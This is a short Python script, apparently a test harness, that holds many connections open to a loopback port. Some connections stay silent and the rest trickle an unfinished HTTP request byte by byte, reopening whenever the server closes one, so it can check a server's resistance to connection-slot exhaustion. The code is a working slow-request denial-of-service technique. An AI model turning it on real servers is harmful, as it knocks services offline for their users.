#!/usr/bin/env python3
"""Holds many connections open to a loopback port, as a local attacker starving a server would: half stay
silent, half trickle a request one byte at a time. Each one the server closes is opened again at once, so
the pressure never lets up. Prints "holding N" once every connection is open, and at the end how many the
server closed. Usage: slot_flood.py PORT CONNECTIONS SECONDS"""
import selectors
import socket
import sys
import time

port, count, seconds = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
request = b"GET / HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n" % port  # never finished
selector = selectors.DefaultSelector()
closed = 0


def open_one(index):
    conn = socket.create_connection(("127.0.0.1", port))
    conn.setblocking(False)
    selector.register(conn, selectors.EVENT_READ, {"index": index, "sent": 0})


for i in range(count):
    open_one(i)
print("holding %d" % count, flush=True)
end = time.monotonic() + seconds
next_trickle = time.monotonic()
while time.monotonic() < end:
    for key, _ in selector.select(timeout=0.05):
        try:
            data = key.fileobj.recv(4096)
        except OSError:
            data = b""
        if not data:
            closed += 1
            index = key.data["index"]
            selector.unregister(key.fileobj)
            key.fileobj.close()
            try:
                open_one(index)
            except OSError:
                pass
    if time.monotonic() >= next_trickle:
        next_trickle = time.monotonic() + 0.3
        for key in list(selector.get_map().values()):
            if key.data["index"] % 2 == 1:
                sent = key.data["sent"] % len(request)
                try:
                    key.fileobj.send(request[sent:sent + 1])
                    key.data["sent"] += 1
                except OSError:
                    pass
print("closed by the server %d" % closed, flush=True)
